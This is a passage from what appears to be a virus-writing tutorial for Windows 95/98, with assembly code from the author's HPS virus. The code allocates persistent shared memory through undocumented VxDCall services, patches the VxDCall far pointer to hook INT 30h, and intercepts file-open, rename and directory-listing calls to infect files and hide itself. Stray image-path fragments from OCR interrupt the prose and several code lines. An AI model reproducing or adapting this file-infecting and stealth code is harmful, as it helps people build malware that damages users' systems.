This services correspond with the ones in KERNEL32 APIs used for handling 'virtual memory'. In some cases that code at KERNEL32 just checks the entry parameters and call the corresponding service in VMM.VXD.We now how to allocate 'virtual memory' in Win32:

VirtualAlloc (  LPVOID lpAddress,
        DWORD dwSize,
        DWORD flAllocationType,
        DWORD flProtect );

The VirtualAlloc function reserves or commits a region of pages in the virtual address space of the calling process. The entry parameters are:

        - lpAddress

                Specifies the desired starting address of the region to
        allocate. If this parameter is NULL, the system determines
        where to allocate the region.- dwSize
        Specifies the size, in bytes, of the region. If the lpAddress
        parameter is NULL, this value is rounded up to the next page

                - flAllocationType

                Specifies the type of allocation. You can specify any
        combination of the following flags:

                MEM_COMMIT - Allocates physical storage in memory or in the
        paging file on disk for the specified region of pages. An
        attempt to commit an already committed page will not cause
        the function to fail. This means that a range of committed
        or decommitted pages can be committed without having to worry
        about a failure.

                MEM_RESERVE - Reserves a range of the process's virtual
        address space without allocating any physicalstorage. The
        reserved range cannot be used by any other allocation
        operations (the malloc function, the LocalAlloc function, and
        so on) until it is released. Reserved pages can be committed
        in subsequent calls to the VirtualAlloc function.

                - flProtect

                Specifies the type of access protection. If the pages are
        being committed, any one of the following flags can be
        specified, along with the PAGE_GUARD and PAGE_NOCACHE
        protection modifier flags, as desired:


Lets trace a call to VirtualAlloc with the debugger. We will see how this API checks the entry parameters and then calls to the service _PageReserve in VMM.VXD, using VxDCall. During the execution of VirtualAlloc API the call will return with error in the folling cases:

        - If dwSize specifies too much space.
        - If lpAddress is an invalid address.
        - If the undocumented flag MEM_SHARED was included.
        - If the call to _PageReserve fails.Although we know the existence of the flag MEM_SHARED, we cant use it due to the checks performed by VirtualAlloc. In order to allocate a region of pages into system shared memory we are going to bypass the calling protocol and go straigh to _PageReserve. Here is an example:

                push PC_WRITEABLE or PC_USER
                push page_mem_size                      ;Size
                push PR_SHARED
                push 00010000h                          ;Call to _PageReserve
                call dword ptr [ebp+a_VxDCall]          ;...using VxDCall
                cmp eax,0FFFFFFFFh                      ;Error?
                je init_error
                cmp eax,80000000h                       ;Into shared memory?
                jb free_pages
                mov dword ptr [ebp+mem_address],eax     ;Save region address
                push PC_WRITEABLE or PC_USER or PC_PRESENT or PC_FIXED
                push 00000000h
                push PD_ZEROINIT
                push page_mem_size                      ;Size
                shr eax,0Ch                             ;Page number
                push eax
                push 00010001h                          ;Call to _PageCommit
                call dword ptr [ebp+a_VxDCall]          ;...usingVxDCall
                or eax,eax
                je free_pages

In the first call to VxDCall i used the service _PageReserve from VMM.VXD (0001h = VMM.VXD and 0000h = _PageReserve). As first entry parameter we specify the type of memory to allocate, using the following flags:

                PC_FIXED        Commit a region of locked memory. This
                pages will stay locked along all the session.

                PC_LOCKED       Commit a regin of locked memory that can
                be unlocked later.

                PC_WRITEABLE    Write access to the commited pages.

                PC_USER         This is a must if you want to access the
                allocated pages from ring-3.

After this the routines pushes into stack the number of bytes to allocate. The last parameter is the starting page for the allocated region, but you can also specify one of the following flags:

                PR_PRIVATE      Reserve memory in the ring-3 privated area
                for each application,

                PR_SHARED       Reserve memory in the ring-3 shared area.

                PR_SYSTEM       Reserve ring-0 memory.

By means of PR_SHARED flag our memory region will be allocated into shared memory, and this area will be visible for all applications. This is important if we plan tomonitor all the calls suited by any application.

In case of error Page_Reserve will return 0FFFFFFFFh in eax register. If the memory was allocated without problems eax is a pointer to it. Then we can check if the pages was allocated at shared memory area, this is, above 80000000h.

Once the memory is allocated it's time to tell the operating system to map that memory into physical memory. For this purpose is _PageCommit, exported by VMM.

The first parameter are some flags similar to the ones used in the call to _PageReserve. This time we specify PC_PRESENT to keep the memory once the owner program terminates.

I use 0 as next parameter, i dont want to mess with 'PAGERS' and other details of the memory managment, this is out of the purpose of this article.

Then we use PD_ZEROINIT to initialize allocated memory with zero's. The last parameter specifies the number of pages to commit. In case of error the call will return 0, and the virus have to free previously allocated pages:

free_pages: xor eax,eaxpush eax
                push dword ptr [ebp+mem_address]
                push 0001000Ah
                call dword ptr [ebp+a_VxDCall]

The work is done, now our virus can allocate a block of memory that will stay there after the application terminates. The virus can copy its body to this area and redirect some kernel functionsto pass through our code before or after being executed.

8 - VxDCall hooking

Take the debugger and have a look at how the VxDCall function comunicates with VxD's. You will find something like this:

        mov eax,dword ptr [esp+00000004h]
        pop dword ptr [esp]
        call fword ptr cs:[BFFC9004]

This code loads eax with the identifier of the VxD containing the desired service. After a stack fix everything is ready for jumping to the service code. The call instruction will translate us to:

        int 30h

Nice... Seems like the system is using interrupt 30h to jump into ring-0. If you trace into the interrupt call you will fall somewhere inside VMM.VXD.

Now lets have a closer look at VxDCall code, soecially to the following instruction:

        call fword ptr cs:[BFFC9004]

This instruction will translate the execution to the address stored into cs:[BFFC9004]. This address points to the interrupt call. If we overwrite this value with a pointer to our own handler we succesfully hooked VxDCall.

        mov esi,dword ptr [ebp+a_VxDCall]       ;VxDCall address
        mov ecx,00000100h                       ;Explore 0100h bytes
trace_VxDCall:  lodsb
        cmp al,2Eh
        jne trace_nextcmp word ptr [esi],1DFFh
        je get_int30h
trace_next: loop trace_VxDCall

The code above follows the VxDCall API code looking for the following sequence of byte:

        2E FF 1D xx xx xx xx  CALL FWORD PTR CS:[xxxxxxxx]

When the virus finds the call instruction it can extract the value there, save it inside virus code and patch it to point to the viral handler.

        lodsw                                   ;Skip FF 1D opcodes
        lodsd                                   ;Get ptr to INT 30h
        push eax
        mov esi,eax
        mov edi,dword ptr [ebp+mem_address]
        add edi,VxDCall_code-mem_base
        mov ecx,00000006hrep movsb
        pop edi
        mov eax,dword ptr [ebp+mem_address]
        add eax,VxDCall_hook-mem_base
        mov ax,cs                               ;Overwrite far ptr

We stop interrupts before proceeding. Then take the address of xxxxxxxx and we find a 'FWORD' that point to the int 30h instruction. 'FWORD' are six bytes, the virus have to copy this bytes into a save buffer inside its body.

Finally we write the address of our handler, first the 32bits offset and the segment next (remember that 'FWORD' is a 16:32 value). Turn on interrupts, now the hook is active.

Below is a portion of the HPS virus, the interrupt handler:

VxDCall_hook:   pushad

                call mem_delta                          ;Get "in-memory"
mem_delta:      pop ebp                                 ;delta offset
                sub ebp,offset mem_delta

                cmp dword ptr [ebp+hook_status],"BUSY"  ;Dont process our
                je exit_hook                            ;own callscmp eax,002A0010h                       ;VWIN32 VxD int 21h?
                jne exit_hook

                mov eax,dword ptr [esp+0000002Ch]
                cmp ax,2A00h                            ;Getsystem time?
                je tsr_check

                cmpax,3D00h                            ;Open file read?
                je infection_edx

                cmp ax,3D01h                            ;Open file
                je infection_edx                        ;read/write?
                cmp ax,7143h                            ;X-Get/set attrib?
                je infection_edx

                cmp ax,714Eh                            ;LFN find first file
                je stealth

                cmp ax,714Fh                            ;LFN find next file
                je stealth

                cmp ax,7156h                            ;LFN rename file?
                je infection_edx

                cmp ax,716Ch                            ;LFN extended open?
                je infection_esi

                cmp ax,71A8h                            ;Generate short name?
                je infection_esi

exit_hook:      popad

do_far_jmp:     ;Do a jmp fword ptr cs:[xxxxxxxx] into original code

                db 2Eh,0FFh,2Dh
ptr_location    dd 00000000h

Some readers will notice that the virus sets a global variable at the beginning of thehandler code. This variable works as semaphore and it's purpose is to avoid the virus from proccesing its own calls toVxDCall.

Next, the virus checks if the requested service is VWIN32_Int21Dispatch. If so the function number specified by the caller is read from the stack. The virus looks for interesting functions and perform the corresponding tasks.

Finally the execution is passed to the original VxDCall function, which address we saved before.

9 - Last words

This is just another backdoor in Windows95 security, that is also present under Windows98. I wrote the HPS virus to show how to exploit this.

HPS shows how to trick VxDCall to infect files and perform its stealth routine. The virus also uses VxDCall to 'bypass' KERNEL32 memory managment, fooling all checks.